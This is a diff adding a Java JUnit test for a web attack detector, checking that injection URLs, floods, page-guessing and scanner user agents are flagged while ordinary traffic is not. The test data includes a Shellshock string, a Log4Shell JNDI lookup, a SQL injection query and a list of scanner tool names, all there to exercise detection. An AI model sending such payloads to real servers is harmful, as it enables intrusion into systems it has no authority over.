@@ -1,0 +1,166 @@
+package com.hookprobe.qsecbit.detection.rule;
+
+import static com.hookprobe.qsecbit.detection.Events.ATTACKER;
+import static com.hookprobe.qsecbit.detection.Events.CLIENT;
+import static com.hookprobe.qsecbit.detection.Events.LOCAL;
+import static com.hookprobe.qsecbit.detection.Events.SERVER;
+import static com.hookprobe.qsecbit.detection.Events.get;
+import static com.hookprobe.qsecbit.detection.Events.http;
+import static com.hookprobe.qsecbit.detection.Events.run;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.hookprobe.qsecbit.detection.AttackKind;
+import com.hookprobe.qsecbit.detection.Detection;
+import com.hookprobe.qsecbit.detection.NetworkEvent;
+import java.io.IOException;
+import java.io.InputStream;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Objects;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class WebAttackDetectorTest {
+    private final WebAttackDetector detector = new WebAttackDetector(LOCAL);
+
+    @ParameterizedTest
+    @MethodSource("attacks")
+    void attacksAreFoundWithTheirKind(String line) {
+        String[] parts = line.split("\t", 2);
+        assertThat(run(detector, List.of(get(0, parts[1]))))
+                .as(parts[1])
+                .extracting(Detection::kind)
+                .contains(AttackKind.valueOf(parts[0]));
+    }
+
+    @ParameterizedTest
+    @MethodSource("honest")
+    void honestRequestsAreNot(String url) {
+        assertThat(run(detector, List.of(get(0, url)))).as(url).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "sqlmap/1.7.2#stable (https://sqlmap.org)",
+                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
+                "() { :; }; /bin/bash -c 'id'",
+                "${jndi:ldap://203.0.113.9/a}",
+                "Mozilla/5.0 zgrab/0.x",
+                "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"
+            })
+    void agentsThatNameThemselves(String agent) {
+        assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "GET", "/", 200, agent))))
+                .isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+                "curl/8.4.0",
+                "Wget/1.21.3",
+                "python-requests/2.31.0",
+                "Googlebot/2.1 (+http://www.google.com/bot.html)",
+                "Debian APT-HTTP/1.3 (2.6.1)",
+                "okhttp/4.12.0",
+                "Apache-HttpClient/4.5.14 (Java/17.0.9)",
+                ""
+            })
+    void honestAgentsAreNot(String agent) {
+        assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "GET", "/", 200, agent))))
+                .isEmpty();
+    }
+
+    @Test
+    void aHiddenFileIsAGuessWhenItIsNotThere() {
+        assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "GET", "/.bashrc", 404, "curl/8.4.0"))))
+                .singleElement()
+                .satisfies(d -> assertThat(d.kind()).isEqualTo(AttackKind.WEB_SCAN));
+        assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "GET", "/.bashrc", 200, "curl/8.4.0"))))
+                .isEmpty();
+        assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "GET", "/.well-known/change-password", 404, ""))))
+                .isEmpty();
+    }
+
+    @Test
+    void guessingAtPages() {
+        List<NetworkEvent> events = new ArrayList<>();
+        List<NetworkEvent> honest = new ArrayList<>();
+        for (int i = 0; i < 40; i++) {
+            events.add(http(i, ATTACKER, SERVER, "GET", "/page" + i, 404, "x"));
+            // One page that is gone, asked again and again, and many that are there.
+            honest.add(http(i, ATTACKER, SERVER, "GET", "/favicon.ico", 404, "x"));
+            honest.add(http(i, ATTACKER, SERVER, "GET", "/news/" + i, 200, "x"));
+        }
+        assertThat(run(detector, events)).isNotEmpty().allMatch(d -> d.kind() == AttackKind.WEB_SCAN);
+        assertThat(run(new WebAttackDetector(LOCAL), honest)).isEmpty();
+    }
+
+    @Test
+    void aFlood() {
+        List<NetworkEvent> events = new ArrayList<>();
+        for (int i = 0; i < 1000; i++) {
+            events.add(http(i * 0.01, ATTACKER, SERVER, "GET", "/", 200, "x"));
+        }
+        assertThat(run(detector, events)).extracting(Detection::kind).containsExactly(AttackKind.HTTP_FLOOD);
+    }
+
+    @Test
+    void oursThatAttacksIsInternal() {
+        NetworkEvent event = http(0, CLIENT, ATTACKER, "GET", "/?id=1%27%20union%20select%20null,null--", 200, "x");
+        assertThat(run(detector, List.of(event))).singleElement().satisfies(d -> {
+            assertThat(d.internal()).isTrue();
+            assertThat(d.source()).isEqualTo(CLIENT);
+        });
+    }
+
+    // A pattern that takes more than linear time would hang here: each URL is at the limit of what is looked at.
+    @Test
+    void noUrlTakesLong() {
+        List<NetworkEvent> events = new ArrayList<>();
+        for (String unit : List.of(
+                "'",
+                "(",
+                "a' or ",
+                "union ",
+                "select a from ",
+                "<a ",
+                "../",
+                "; ",
+                "%25",
+                "${",
+                "1=",
+                "\"",
+                "/",
+                " or 1 ")) {
+            events.add(get(0, "/?q=" + unit.repeat(8192 / unit.length())));
+        }
+        long start = System.nanoTime();
+        for (int i = 0; i < 5; i++) {
+            run(detector, events);
+        }
+        assertThat((System.nanoTime() - start) / 1e9).isLessThan(10);
+    }
+
+    static List<String> attacks() throws IOException {
+        return lines("web-attacks.txt");
+    }
+
+    static List<String> honest() throws IOException {
+        return lines("web-honest.txt");
+    }
+
+    private static List<String> lines(String name) throws IOException {
+        try (InputStream in = Objects.requireNonNull(WebAttackDetectorTest.class.getResourceAsStream("/" + name))) {
+            return new String(in.readAllBytes(), StandardCharsets.UTF_8)
+                    .lines()
+                    .filter(line -> !line.isEmpty() && !line.startsWith("#"))
+                    .toList();
+        }
+    }
+}
